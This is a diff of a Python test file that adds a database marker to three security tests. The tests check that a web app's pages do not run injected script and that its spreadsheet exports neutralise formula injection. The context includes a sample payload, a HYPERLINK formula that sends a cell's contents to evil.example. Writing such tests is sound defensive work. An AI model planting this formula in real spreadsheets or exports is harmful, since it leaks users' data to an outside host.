@@ -267,6 +267,7 @@ def skipped(model: Any, field: Any) -> bool:
     return bool(fixed or years or (field.name in named - {"label"}) or field.name.startswith("history_"))
 
 
+@pytest.mark.same_on_every_database
 @pytest.mark.parametrize("role", ["programme_manager", "project_manager", "finance"])
 def test_nothing_stored_is_run_by_a_browser(role: str, arguments: Any, evil: None, sign_in: Any) -> None:
     client = sign_in(role)[0]
@@ -279,6 +280,7 @@ def test_nothing_stored_is_run_by_a_browser(role: str, arguments: Any, evil: Non
     assert seen > 10
 
 
+@pytest.mark.same_on_every_database
 @pytest.mark.parametrize("address", LISTS)
 def test_nothing_asked_is_run_by_a_browser(address: str, client: Client) -> None:
     text = client.get(address, dict.fromkeys(LISTS[address].split(), EVIL)).content
@@ -289,6 +291,7 @@ FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"look\")"  # fmt: skip
 REGISTERS = ("/projects/register", "/kpis/register", "/budget/lines", "/authorities/register", "/projects/frameworks")
 
 
+@pytest.mark.same_on_every_database
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " ="])
 @pytest.mark.parametrize("address", REGISTERS)
 def test_a_spreadsheet_runs_nothing(start: str, address: str, client: Client, evil: None) -> None:
